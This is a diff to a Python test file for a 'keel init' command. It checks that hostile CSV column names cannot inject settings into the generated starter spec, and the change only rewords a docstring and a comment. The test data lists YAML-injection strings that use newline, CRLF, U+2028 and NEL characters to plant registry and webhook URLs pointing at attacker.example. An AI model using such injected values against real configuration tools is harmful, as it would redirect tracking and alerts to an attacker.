@@ -1,4 +1,7 @@
-"""`keel init` on hostile column names: whatever a CSV header holds, the starter spec says only what was read."""
+"""`keel init` on hostile column names, whatever a CSV header holds.
+
+The starter spec says only what was read.
+"""
 
 from __future__ import annotations
 
@@ -15,7 +18,7 @@ from keel.cli.main import app
 INJECTIONS = [
     "note\nregistry:\n  tracking_uri: http://attacker.example/mlflow\n#",  # the reviewed attack
     "note\r\nmonitoring: {alerts: {webhook: 'http://attacker.example/hook'}}\r\n#",
-    "note\u2028registry: {tracking_uri: 'http://attacker.example'}",  # YAML reads U+2028 as a line break
+    "note\u2028registry: {tracking_uri: 'http://attacker.example'}",  # U+2028 breaks YAML lines
     "note\x85registry: {tracking_uri: 'http://attacker.example'}",  # and NEL
 ]
 
